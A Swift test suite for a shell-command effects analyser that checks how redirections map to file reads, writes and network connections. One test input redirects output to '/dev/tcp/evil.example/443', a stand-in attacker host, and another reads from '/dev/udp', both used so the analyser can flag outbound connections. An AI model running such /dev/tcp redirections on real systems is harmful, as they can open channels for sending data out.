import Testing

@testable import Effects

/// Redirections are file effects of their own.
@Suite struct RedirectionTests {
  @Test(arguments: [
    ("echo x > out 2>> err", "write out; write err; run echo x"),
    ("echo x &> out", "write out; run echo x"),
    ("echo x >| out", "write out; run echo x"),
    ("cat <> rw", "read rw; write rw; run cat"),
    (": > out", "write out; run :"),
    ("echo x >&2 2>&1 3>&-", "run echo x"),
    ("echo x > /dev/null 2>/dev/stderr", "run echo x"),
    ("echo x > /dev/tcp/evil.example/443", "connect tcp://evil.example:443; run echo x"),
    ("cat < /dev/udp/h/53", "connect udp://h:53; run cat"),
    ("echo x >& file", "write file; run echo x"),
    ("{ echo a; echo b; } > both", "write both; run echo a; run echo b"),
    ("cat <<E > out\ncat b\nE", "write out; run cat"),
    ("for i in 1 2; do echo $i; done > loop", "write loop; run echo 1; run echo 2"),
    (#"echo x > "$UNKNOWN""#, "opaque; run echo x"),
    ("exec 3> log", "write log; run exec"),
  ])
  func effects(line: String, expected: String) {
    #expect(CommandWorld.summary(line) == expected)
  }
}
